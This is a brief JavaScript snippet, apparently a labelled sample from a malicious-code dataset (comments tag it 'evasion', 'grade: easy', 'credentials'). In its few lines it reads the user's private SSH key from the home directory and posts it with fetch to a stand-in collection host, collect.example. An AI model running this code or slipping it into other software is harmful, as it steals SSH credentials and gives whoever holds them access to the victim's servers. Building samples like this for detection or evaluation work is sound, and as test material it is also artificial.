// evasion: an SSH key from homedir posted with fetch
// grade: easy; does: credentials
const os = require('os'), fs = require('fs');
const target = os.homedir() + '/.ssh/id_ed25519';
fetch('https://collect.example/', { method: 'POST', body: fs.readFileSync(target) });
